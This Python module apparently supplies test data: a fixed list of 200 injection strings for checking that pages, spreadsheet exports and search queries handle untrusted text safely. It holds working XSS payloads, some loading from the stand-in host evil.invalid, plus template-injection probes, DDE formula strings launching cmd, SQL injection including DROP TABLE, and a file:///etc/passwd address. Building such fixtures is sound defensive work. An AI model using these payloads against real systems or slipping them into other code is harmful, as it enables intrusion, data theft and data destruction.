"""Two hundred pieces of text that would run, load or break something where a page, a table or a query trusts them."""

from __future__ import annotations

ELSEWHERE = "evil.invalid"
"""A host that no page may ask anything of."""

RUN = "window.ran=1"
"""What a script does where one runs; `alert` opens a dialog besides."""

_ENDS = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "]]>",
    "</blockquote></main>",
)
_TAGS = (
    f"<script>{RUN}</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt/x>{RUN}</sCrIpT>",
    f"<script type=module>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN[7:]}></iframe>",
    f"<object data=//{ELSEWHERE}/x.swf></object>",
    f"<embed src=//{ELSEWHERE}/x.svg>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style>@import '//{ELSEWHERE}/x.css';*{{background:url(//{ELSEWHERE}/x.png)}}</style>",
    f"<form action=//{ELSEWHERE}/><button autofocus>send</button></form>",
    f"<input formaction=//{ELSEWHERE}/ type=submit>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    f"<?xml-stylesheet href='//{ELSEWHERE}/x.xsl'?>",
)
_HANDLED = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("body", "onpageshow"),
    ("marquee", "onstart"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("style", "onload"),
    ("p style='animation:x 1s'", "onanimationstart"),
)
_ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f" onmouseover={RUN} ",
    f"` onmouseover={RUN} `",
    f'" autofocus onfocus="{RUN}" x="',
    f'" style="background:url(//{ELSEWHERE}/x.png)" x="',
    f'" hx-get="//{ELSEWHERE}/" hx-trigger="load" x="',
    f"<b hx-get=//{ELSEWHERE}/ hx-trigger=load>",
    f"<b hx-on::load={RUN}>",
    f"<b data-hx-get=//{ELSEWHERE}/ data-hx-trigger=revealed>",
    "<b id=find name=q class=skip data-open=javascript:alert(1) tabindex=-1>",
    "<b id=keys-on><b id=main>",
)
_TEMPLATES = (
    "{{7*7}}",
    "{% raw %}{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{{ frame.visitor.csrf }}",
    "{{ cycler.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{# a #}",
    "%(name)s {name} {0}",
    "%n%s%x",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    f"//{ELSEWHERE}/x",
    f"\\\\{ELSEWHERE}\\x",
    f"https://example.org@{ELSEWHERE}/",
    "file:///etc/passwd",
    f'https://example.org/" onclick="{RUN}',
    f"https://example.org/?<script>{RUN}</script>",
)
_LETTERS = (
    "\u202egnp.exe",
    "\u2066\u202eright\u2069 to left",
    "\u200b\u200c\u200d\ufeff",
    "a\x00b",
    f"<img\x00 src=x onerror={RUN}>",
    "\x1b[31mred\x1b[0m",
    "\r\nX-Evil: 1\r\n\r\n<script>window.ran=1</script>",
    "\u2028\u2029",
    "\ud7ff\ue000\ufffd\U0010ffff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
)
_JSON = (
    f'"}}</script><script>{RUN}</script>',
    f"</script><!--<script>{RUN}//",
    f'\\"}};{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    '","__proto__":{"x":1},"y":"',
    f"<!--<script>{RUN}</script>-->",
)
_TABLES = (
    f'=HYPERLINK("http://{ELSEWHERE}/","open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
    "a\n=1+1",
    "\uff1d1+1",
)
QUERIES = (
    "' OR 1=1 --",
    "'; DROP TABLE documents; --",
    '" OR ""="',
    "1) UNION SELECT password FROM users --",
    '"unclosed',
    "NEAR(a b",
    "a AND",
    "^a* OR -",
    "title:x",
    "%_\\",
)
"""What the language of a database, or of its search, would take for more than words."""


def payloads() -> list[str]:
    """All of them, each once, always in the same order."""
    handled = [f"<{tag} {handler}={RUN}>" for tag, handler in _HANDLED]
    broken = [end + one for end in _ENDS[1:] for one in (_TAGS[0], *handled[:9])]
    named = (*_TAGS, *handled, *_ATTRIBUTES, *_TEMPLATES, *_ADDRESSES, *_LETTERS, *_JSON, *_TABLES, *QUERIES)
    return list(dict.fromkeys((*named, *broken)))[:200]
